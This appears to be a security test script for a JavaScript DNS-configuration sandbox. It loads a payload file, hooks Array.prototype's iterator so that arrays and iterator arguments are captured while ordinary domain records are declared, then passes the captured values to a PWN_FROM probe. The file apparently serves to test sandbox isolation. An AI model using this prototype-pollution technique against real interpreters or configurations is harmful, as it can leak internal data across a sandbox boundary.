require("./lib/payload.js");
var leaked = [];
var origIter = Array.prototype[Symbol.iterator];
Array.prototype[Symbol.iterator] = function () { leaked.push(this); var it = origIter.call(this); return { next: function () { leaked.push(arguments[0]); return it.next(); }, [Symbol.iterator]: function () { return this; } }; };
D("i.example", REG, DnsProvider(DSP), [A("@", "192.0.2.1"), [MX("@", 10, "mx.example.com.")]], TXT("t", ["a", "b"]));
DEFAULTS(DnsProvider(DSP));
D("i2.example", REG, A("@", "192.0.2.2"));
Array.prototype[Symbol.iterator] = origIter;
leaked.forEach(function (v, i) { if (i < 40 && v) PWN_FROM(v, "iter" + i); });
